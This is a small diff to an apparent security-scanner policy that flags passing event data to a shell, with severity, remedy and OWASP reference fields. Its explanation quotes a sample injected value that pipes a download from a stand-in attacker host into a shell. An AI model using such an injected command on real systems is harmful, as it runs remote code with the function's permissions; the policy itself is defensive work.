@@ -8,7 +8,7 @@ export default definePolicy({
   several: ['calls', 'pass event data to a shell'],
   severity: 'critical',
   why: 'A value such as `; curl attacker.example | sh` becomes a command that runs with the permissions of the function.',
-  remedy: 'Start the program without a shell: `execFile` with a list of arguments.',
+  remedy: 'Run the program without a shell: `execFile` or `subprocess.run` with a list of arguments.',
   acceptable: 'The text comes only from events that the same team writes.',
   references: {
     owasp: ['OW1'],
